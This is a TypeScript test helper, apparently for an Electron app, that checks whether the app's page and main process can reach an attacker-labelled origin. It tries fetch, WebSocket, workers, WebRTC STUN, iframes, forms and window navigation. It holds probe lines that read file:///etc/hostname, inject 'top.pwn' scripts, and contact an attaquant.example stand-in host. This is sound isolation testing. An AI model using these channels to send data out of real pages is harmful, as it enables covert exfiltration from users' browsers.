/**
 * Every function here runs inside of the application (in its page, the last one in main): it may use nothing of this file.
 * Each tries to reach the attacker and says what answered; the attacker's own count is the verdict.
 */

/** Requests and hints of the page, by script and by markup. */
export async function askEverybody(origin: string): Promise<readonly string[]> {
  const told: string[] = [];
  const attempt = async (name: string, act: () => unknown): Promise<void> => {
    const limit = new Promise<never>((_, reject) => setTimeout(() => reject(new Error("late")), 1500));
    await Promise.race([Promise.resolve().then(act), limit]).then(
      (answer) => told.push(answer === "answered" ? "answered" : `${name} done`),
      () => told.push(`${name} refused`),
    );
  };
  const heard = (target: EventTarget, good: string): Promise<string> =>
    new Promise((resolve, reject) => {
      target.addEventListener(good, () => resolve("answered"));
      target.addEventListener("error", () => reject(new Error("refused")));
    });
  const element = (tag: string, attributes: Record<string, string>): Promise<string> => {
    const made = document.createElement(tag);
    const ended = heard(made, "load");
    for (const [name, value] of Object.entries(attributes)) made.setAttribute(name, value);
    document.body.append(made);
    return ended;
  };
  const request = new XMLHttpRequest();
  await Promise.all([
    attempt("fetch", () => fetch(`${origin}/fetch`).then(() => "answered")),
    attempt("no-cors", () => fetch(`${origin}/no-cors`, { mode: "no-cors" }).then(() => "answered")),
    attempt("file", () => fetch("file:///etc/hostname").then(() => "answered")),
    attempt("data", () => fetch("data:text/plain,x").then(() => "answered")),
    attempt("xhr", () => {
      request.open("GET", `${origin}/xhr`);
      request.send();
      return heard(request, "load");
    }),
    attempt("socket", () => heard(new WebSocket(origin.replace("http", "ws")), "open")),
    attempt("events", () => heard(new EventSource(`${origin}/events`), "open")),
    attempt("img", () => element("img", { src: `${origin}/img` })),
    attempt("css", () => element("link", { rel: "stylesheet", href: `${origin}/css` })),
    attempt("script", () => element("script", { src: `${origin}/script` })),
    attempt("prefetch", () => element("link", { rel: "prefetch", href: `${origin}/prefetch` })),
    attempt("preconnect", () => element("link", { rel: "preconnect", href: origin })),
    attempt("names", () => element("link", { rel: "dns-prefetch", href: "//page.attaquant.example" })),
    attempt("video", () => element("video", { src: `${origin}/video`, autoplay: "" })),
    attempt("object", () => element("object", { data: `${origin}/object` })),
    attempt("beacon", () => void navigator.sendBeacon(`${origin}/beacon`, "x")),
    attempt("import", () => import(`${origin}/module.js`).then(() => "answered")),
    attempt("frame", () => void element("iframe", { src: `${origin}/frame` })),
    attempt("data frame", () => void element("iframe", { src: "data:text/html,<script>top.pwn=1</script>" })),
    attempt("service", () => navigator.serviceWorker.register(`${origin}/sw.js`).then(() => "answered")),
  ]);
  const style = document.createElement("div");
  style.style.backgroundImage = `url(${origin}/background)`;
  document.body.append(style);
  await new Promise((resolve) => setTimeout(resolve, 500));
  for (const made of document.querySelectorAll("body > :not(#root)")) made.remove();
  return told;
}

/** Workers of every origin that a page can make up. */
export async function startWorkers(origin: string): Promise<readonly string[]> {
  const code = `fetch("${origin}/worker").then(() => postMessage("answered"), () => postMessage("refused"))`;
  const start = (url: string): Promise<string> =>
    new Promise((resolve) => {
      setTimeout(() => resolve("late"), 1000);
      try {
        const worker = new Worker(url);
        worker.addEventListener("message", ({ data }) => resolve(String(data)));
        worker.addEventListener("error", () => resolve("refused"));
      } catch {
        resolve("refused");
      }
    });
  const blob = URL.createObjectURL(new Blob([code], { type: "text/javascript" }));
  return Promise.all([
    start(`${origin}/worker.js`),
    start(`data:text/javascript,${encodeURIComponent(code)}`),
    start(blob),
  ]);
}

/** Candidates that a peer connection gathers with the attacker as STUN server. */
export async function stunCandidates(port: number): Promise<readonly string[]> {
  const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
  const found: string[] = [];
  peer.addEventListener("icecandidate", ({ candidate }) => {
    if (candidate !== null && candidate.candidate !== "") found.push(candidate.candidate);
  });
  peer.createDataChannel("x");
  await peer.setLocalDescription(await peer.createOffer());
  await new Promise((resolve) => setTimeout(resolve, 1500));
  peer.close();
  return found;
}

/** Ways of leaving the page: form, window, location. */
export function leaveByNavigation(origin: string): void {
  const form = document.createElement("form");
  form.action = `${origin}/form`;
  form.method = "post";
  document.body.append(form);
  form.submit();
  form.remove();
  window.open(`${origin}/window`);
  window.open("javascript:top.pwn=1");
  const link = document.createElement("a");
  Object.assign(link, { href: `${origin}/download`, download: "x" });
  link.click();
  Object.assign(link, { href: "mailto:x@attaquant.example" });
  link.click();
  location.href = `${origin}/location`;
}

/** In main: a window of the same session and one of the default session are pointed at the attacker; the ones that loaded. */
export async function loadFromMain(
  { BrowserWindow, session, net }: typeof import("electron"),
  origin: string,
): Promise<readonly string[]> {
  const loaded: string[] = [];
  for (const ses of [session.fromPartition("pli"), session.defaultSession]) {
    const window = new BrowserWindow({ show: false, webPreferences: { session: ses, sandbox: true } });
    for (const url of [`${origin}/main`, "file:///etc/hostname", "data:text/html,x", "chrome://version"])
      await window.loadURL(url).then(
        () => loaded.push(url),
        () => undefined,
      );
    window.destroy();
    await net.fetch(`${origin}/net`).then(
      () => loaded.push("net"),
      () => undefined,
    );
  }
  return loaded;
}
